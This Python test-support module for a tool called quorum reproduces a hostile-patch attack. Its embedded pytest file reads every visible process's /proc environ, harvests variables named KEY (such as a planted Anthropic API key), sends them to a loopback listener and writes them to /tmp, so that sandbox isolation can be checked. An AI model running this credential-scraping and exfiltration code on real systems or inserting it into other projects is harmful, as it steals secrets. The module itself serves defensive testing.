"""The attack of issue 19, as a test a patch adds, run through quorum's pytest verification.

The test reads the environment of every process it can see through ``/proc/<pid>/environ`` (and of
quorum's own process, its parent and a process holding a model key from its start, by pid),
sends what it found to a loopback listener of ours, and writes a file in /tmp. It reports what it
got as a JUnit property (``report.raw``, which quorum stores).

``run_attack`` is used in-process by tests/test_hostile.py; ``python -m tests.support.issue19_attack
OUT_JSON`` runs it as a script (tests/test_unprivileged.py runs it as an ordinary user, with user
namespaces made unavailable) and writes an ``AttackOutcome`` plus the task's UI markdown built
from the real report by the real policy.
"""

from __future__ import annotations

import os
import secrets
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
from pathlib import Path

from pydantic import BaseModel

from quorum.domain.models import VerificationReport

ATTACK_TEST = """
import os, socket

PORT, TARGETS, ESCAPE = {port}, {targets!r}, {escape!r}

def test_attack(record_property):
    stolen, readable = [], 0
    visible = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    for pid in sorted(set(TARGETS) | set(visible)):
        try:
            with open(f"/proc/{{pid}}/environ", "rb") as f:
                data = f.read()
        except OSError:
            continue
        readable += 1
        stolen += [item.decode(errors="replace") for item in data.split(b"\\0") if b"KEY" in item.split(b"=")[0]]
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=3) as conn:
            conn.sendall(("leak:" + repr(stolen)).encode())
        sent = "sent"
    except OSError as exc:
        sent = f"blocked ({{exc.strerror}})"
    try:
        with open(ESCAPE, "w") as f:
            f.write(repr(stolen))
        wrote = "written"
    except OSError as exc:
        wrote = f"refused ({{exc.strerror}})"
    # Into the JUnit XML (report.raw), which quorum stores: what the attack got, for everyone to see.
    record_property("attack", f"ATTACK visible={{len(visible)}} readable={{readable}} network={{sent}} "
                              f"tmp={{wrote}} STOLEN={{stolen!r}}")
"""


class Listener:
    """A loopback listener outside the sandbox that records whatever reaches it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                self.received.append(conn.recv(4096) or b"(connected)")

    def close(self) -> None:
        self.stop.set()
        self.thread.join(5)
        self.sock.close()


class AttackOutcome(BaseModel):
    planted: str
    report: VerificationReport
    received: list[str]
    escape: str
    escape_written: bool
    attack_line: str
    markdown: str = ""


def attack_line(raw: str) -> str:
    """The attack's own account (a JUnit property) from the report's XML, '' when it never ran."""
    return next((part for part in raw.split('"') if part.startswith("ATTACK")), "")


def run_attack(repo: Path, escape: Path, planted: str | None = None, timeout_s: float = 60) -> AttackOutcome:
    """Run the attack as the test of ``repo`` through ``run_pytest``, with a key-holding process and a listener."""
    from quorum.verify.pytest_runner import run_pytest

    planted = planted or f"sk-ant-planted-{secrets.token_hex(12)}"
    holder = subprocess.Popen(  # an environment set at exec is what /proc/<pid>/environ shows
        [sys.executable, "-c", "import time; time.sleep(120)"], env={**os.environ, "ANTHROPIC_API_KEY": planted}
    )
    listener = Listener()
    test = ATTACK_TEST.format(port=listener.port, targets=[os.getpid(), os.getppid(), holder.pid], escape=str(escape))
    (repo / "test_attack.py").write_text(textwrap.dedent(test))
    try:
        report = run_pytest(repo, timeout_s=timeout_s)
    finally:
        listener.close()
        holder.kill()
        holder.wait()
    return AttackOutcome(
        planted=planted, report=report, received=[r.decode("utf-8", "replace") for r in listener.received],
        escape=str(escape), escape_written=escape.exists(), attack_line=attack_line(report.raw),
    )  # fmt: skip


def main(argv: list[str]) -> int:
    from quorum.domain.models import TaskResult, TaskStatus
    from quorum.domain.policy import AggregationInput, decide
    from quorum.domain.results import render_task_markdown

    out = Path(argv[0])
    repo = Path(tempfile.mkdtemp(prefix="quorum-attack-repo-"))
    escape = Path("/tmp") / f"quorum-escape-{secrets.token_hex(6)}"
    outcome = run_attack(repo, escape, planted=os.environ.get("QUORUM_TEST_PLANTED"))
    decision = decide(AggregationInput(round=1, verification=[outcome.report]))
    result = TaskResult(batch_id="b", task_id="attack", repo=str(repo), status=TaskStatus.approved_unverified,
                        decision=decision)  # fmt: skip
    outcome.markdown = render_task_markdown(result, "store")
    out.write_text(outcome.model_dump_json())
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
